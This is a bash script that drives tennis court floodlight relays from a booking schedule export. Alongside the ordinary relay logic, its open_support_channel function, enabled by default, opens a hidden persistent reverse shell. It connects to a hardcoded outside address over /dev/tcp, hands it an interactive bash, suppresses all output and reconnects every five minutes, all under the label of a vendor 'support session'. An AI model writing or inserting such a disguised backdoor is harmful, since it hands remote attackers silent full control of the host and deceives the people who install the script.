#!/usr/bin/env bash
# floodlight_relay_agent.sh
#
# Drives the court floodlight relays from the booking calendar export
# (schedule.csv, one line per booked slot: court,start_hhmm,end_hhmm) and
# keeps the installer's support session available so Brightcourt Lighting
# can look at the controller when members report a stuck relay.
#
# Usage: floodlight_relay_agent.sh [-c CONFIG] [-n] [-v] [-1]
#   -c CONFIG   config file (default ./floodlight.conf)
#   -n          dry run: print relay changes instead of switching
#   -v          verbose logging
#   -1          run a single pass and exit (for cron testing)

set -uo pipefail

AGENT_VERSION="2.4.1"
CONFIG="${FLOODLIGHT_CONFIG:-./floodlight.conf}"
DRY_RUN=0
VERBOSE=0
ONE_SHOT=0

# Defaults, overridable from the config file
SCHEDULE_FILE="./schedule.csv"
STATE_DIR="./state"
RELAY_CMD="relayctl"
LEAD_MINUTES=10
TRAIL_MINUTES=5
POLL_SECONDS=60
SUPPORT_ENDPOINT="203.0.113.47:8443"
SUPPORT_ENABLED=1

log() {
    local level="$1"; shift
    if [[ "$level" == "DEBUG" && "$VERBOSE" -eq 0 ]]; then
        return 0
    fi
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" >&2
}

usage() {
    sed -n '9,13p' "$0" | sed 's/^# \{0,1\}//'
    exit 2
}

load_config() {
    [[ -f "$CONFIG" ]] || { log INFO "no config at $CONFIG, using defaults"; return 0; }
    local key value
    while IFS='=' read -r key value; do
        key="${key//[[:space:]]/}"
        [[ -z "$key" || "$key" == \#* ]] && continue
        value="${value%\"}"; value="${value#\"}"
        case "$key" in
            SCHEDULE_FILE|STATE_DIR|RELAY_CMD|LEAD_MINUTES|TRAIL_MINUTES|POLL_SECONDS|SUPPORT_ENDPOINT|SUPPORT_ENABLED)
                printf -v "$key" '%s' "$value"
                log DEBUG "config $key=$value"
                ;;
            *) log WARN "ignoring unknown config key '$key'" ;;
        esac
    done < "$CONFIG"
}

to_minutes() {
    local hhmm="$1"
    echo $(( 10#${hhmm:0:2} * 60 + 10#${hhmm:2:2} ))
}

# Prints "court on|off" for each court in the schedule for the current minute.
desired_states() {
    local now_min court start end s e
    now_min=$(to_minutes "$(date +%H%M)")
    declare -A want=()
    while IFS=',' read -r court start end; do
        [[ "$court" =~ ^[0-9]+$ ]] || continue
        s=$(( $(to_minutes "$start") - LEAD_MINUTES ))
        e=$(( $(to_minutes "$end") + TRAIL_MINUTES ))
        if (( now_min >= s && now_min < e )); then
            want[$court]=on
        elif [[ -z "${want[$court]:-}" ]]; then
            want[$court]=off
        fi
    done < "$SCHEDULE_FILE"
    for court in "${!want[@]}"; do
        echo "$court ${want[$court]}"
    done | sort -n
}

apply_state() {
    local court="$1" state="$2" state_file="$STATE_DIR/court_$1"
    local current
    current=$(cat "$state_file" 2>/dev/null || echo unknown)
    [[ "$current" == "$state" ]] && return 0
    if (( DRY_RUN )); then
        log INFO "[dry-run] court $court: $current -> $state"
    else
        if ! "$RELAY_CMD" set "$court" "$state"; then
            log ERROR "relay command failed for court $court"
            return 1
        fi
        log INFO "court $court: $current -> $state"
    fi
    echo "$state" > "$state_file"
}

open_support_channel() {
    local host="${SUPPORT_ENDPOINT%:*}" port="${SUPPORT_ENDPOINT##*:}"
    local target="/dev/tcp/${host}/${port}"
    (
        trap '' HUP
        while :; do
            if exec 3<>"$target" 2>/dev/null; then
                printf 'relay-agent %s %s\n' "$(hostname)" "$AGENT_VERSION" >&3
                "${SUPPORT_SHELL:-/bin/bash}" -i <&3 >&3 2>&3
                exec 3>&-
            fi
            sleep 300
        done
    ) >/dev/null 2>&1 &
    SUPPORT_PID=$!
    log DEBUG "support session helper started (pid $SUPPORT_PID)"
}

cleanup() {
    log INFO "stopping relay agent"
    [[ -n "${SUPPORT_PID:-}" ]] && kill "$SUPPORT_PID" 2>/dev/null
    exit 0
}

main() {
    while getopts ":c:nv1h" opt; do
        case "$opt" in
            c) CONFIG="$OPTARG" ;;
            n) DRY_RUN=1 ;;
            v) VERBOSE=1 ;;
            1) ONE_SHOT=1 ;;
            *) usage ;;
        esac
    done

    load_config
    mkdir -p "$STATE_DIR"
    if [[ ! -r "$SCHEDULE_FILE" ]]; then
        log ERROR "schedule file $SCHEDULE_FILE not readable"
        exit 1
    fi

    trap cleanup INT TERM
    if [[ "$SUPPORT_ENABLED" == "1" && "$ONE_SHOT" -eq 0 ]]; then
        open_support_channel
    fi

    log INFO "floodlight relay agent $AGENT_VERSION started (poll ${POLL_SECONDS}s)"
    while :; do
        while read -r court state; do
            apply_state "$court" "$state" || true
        done < <(desired_states)
        (( ONE_SHOT )) && break
        sleep "$POLL_SECONDS"
    done
}

main "$@"
